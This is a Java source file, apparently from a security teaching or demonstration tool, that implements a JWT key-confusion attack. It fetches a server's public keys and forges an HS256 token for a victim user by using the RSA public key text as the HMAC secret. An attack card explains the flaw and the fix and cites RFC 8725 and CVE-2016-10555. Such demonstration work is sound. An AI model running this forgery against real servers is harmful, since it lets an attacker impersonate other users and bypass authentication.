package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.attack.forge.Ingredients;
import dev.gatehouse.desktop.attack.forge.KeyConfusion;
import dev.gatehouse.desktop.credential.CompactToken;
import dev.gatehouse.desktop.credential.CredentialException;
import dev.gatehouse.desktop.exchange.Hop;
import java.util.List;
import java.util.Map;

/** Signs with the server's public key as if it were a shared secret. */
@AutoService(Attack.class)
public final class JwtKeyConfusion extends JwtAttack {
  @Override
  public AttackCard card() {
    return new AttackCard(
        "jwt-key-confusion",
        "Key confusion",
        AttackGroup.JWT,
        "The attacker signs a token about Alice with HS256, and takes the text of the server's"
            + " public key as the secret.",
        "The server's public key, which is, after all, public.",
        "The server lets the token choose the algorithm, and so uses its RSA key's text as the"
            + " secret of an HMAC.",
        "trust-alg-header",
        List.of("RFC 8725 §3.1", "CVE-2016-10555"),
        "Tie each key to one algorithm when it is made, and use it with that one alone. The token"
            + " does not choose.");
  }

  @Override
  String token(Target target) throws CredentialException, InterruptedException {
    Hop answer =
        target.send("Fetch the server's public keys.", target.get("/.well-known/jwks.json"));
    Ingredients keys = Ingredients.keys(answer.body(), Map.of());
    KeyConfusion forgery = new KeyConfusion();
    target.makes(
        "Write the RSA key as text, as programs usually keep it.", "public key", forgery.pem(keys));
    CompactToken wanted = ownToken(target).withClaim("sub", Loot.VICTIM);
    return target.makes(
        "Write alg HS256 and sub alice, and sign with that text as the secret.",
        "forged token",
        forgery.forge(wanted, keys).text());
  }
}
